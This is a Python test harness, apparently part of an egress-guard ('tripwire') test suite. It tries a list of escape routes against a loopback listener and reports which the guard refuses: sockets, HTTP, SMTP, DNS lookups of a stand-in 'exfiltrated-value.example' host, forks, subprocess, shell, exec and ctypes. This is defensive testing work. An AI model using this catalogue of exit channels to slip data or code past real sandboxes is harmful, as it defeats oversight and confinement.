"""Ways out that somebody might plant in a process of the installation, each tried once. Prints what became of each.

`python -m tests.fences.planted SETTINGS PORT [armed]`: PORT is a listener on loopback that stands for any host outside.
With `armed` the tripwire is stretched first, as the installation's processes do; without, it is the positive control.
"""

from __future__ import annotations

import asyncio
import ctypes
import json
import os
import smtplib
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable
from pathlib import Path

import urllib3

from diffgram_home import settings, tripwire


def in_a_thread(port: int) -> None:
    """Connect in another thread, and pass on what happened there."""
    raised: list[BaseException] = []

    def work() -> None:
        try:
            connect(port)
        except BaseException as error:
            raised.append(error)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    if raised:
        raise raised[0]


def in_a_child(port: int) -> None:
    """Connect in a forked process; its exit code says whether it was refused."""
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            connect(port)
        except tripwire.NotThroughTheDoor:
            code = 42
        os._exit(code)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 42:
        raise tripwire.NotThroughTheDoor("socket.connect")


def become_another(_port: int) -> None:
    """Become another program, in a forked process."""
    pid = os.fork()
    if pid == 0:
        try:
            os.execv("/bin/true", ["true"])  # noqa: S606
        except tripwire.NotThroughTheDoor:
            os._exit(42)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 42:
        raise tripwire.NotThroughTheDoor("os.exec")


def connect(port: int) -> None:
    """The plainest way."""
    socket.create_connection(("127.0.0.1", port), 5).close()


def datagram(port: int) -> None:
    """One packet, without a connection."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", ("127.0.0.1", port))


def with_anothers_permit(port: int) -> None:
    """The door has a permit for this address in one thread; another thread has none."""
    with tripwire.connecting(("127.0.0.1", port)):
        in_a_thread(port)


def beside_the_permit(port: int) -> None:
    """A permit is for one address and port, no other."""
    with tripwire.connecting(("127.0.0.1", port + 1 if port < 65535 else 1)):
        connect(port)


async def _asynchronously(port: int) -> None:
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()


PLANTS: dict[str, Callable[[int], object]] = {
    "socket": connect,
    "datagram": datagram,
    "urllib": lambda port: urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).close(),
    "library": lambda port: urllib3.PoolManager(retries=False).request("GET", f"http://127.0.0.1:{port}/", timeout=5),
    "mail": lambda port: smtplib.SMTP("127.0.0.1", port, timeout=5),
    "asyncio": lambda port: asyncio.run(_asynchronously(port)),
    "thread": in_a_thread,
    "forked child": in_a_child,
    "name": lambda _: socket.getaddrinfo("exfiltrated-value.example", 443),
    "old name": lambda _: socket.gethostbyname("exfiltrated-value.example"),
    "reverse": lambda _: socket.gethostbyaddr("192.0.2.1"),
    "raw packets": lambda _: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
    "program": lambda _: subprocess.run(["true"], check=True),
    "shell": lambda _: os.system("true"),  # noqa: S605
    "exec": become_another,
    "shared library": lambda _: ctypes.CDLL("libm.so.6"),
    "function of libc": lambda _: ctypes.CDLL(None).getpid,
    "another's permit": with_anothers_permit,
    "beside the permit": beside_the_permit,
}


def became(plant: Callable[[int], object], port: int) -> str:
    """What happened: done, refused, or the error's kind."""
    try:
        plant(port)
    except tripwire.NotThroughTheDoor:
        return "refused"
    except Exception as error:
        inner: BaseException | None = error
        while inner is not None:
            if isinstance(inner, tripwire.NotThroughTheDoor):
                return "refused"
            inner = inner.__cause__ or inner.__context__ or getattr(inner, "reason", None)
        return type(error).__name__
    return "done"


def main(config: str, port: str, *armed: str) -> None:
    """Try each."""
    if armed:
        tripwire.arm("command")
        tripwire.know(settings.read(Path(config), os.environ))
    print(json.dumps({name: became(plant, int(port)) for name, plant in PLANTS.items()}))


if __name__ == "__main__":
    main(*sys.argv[1:])
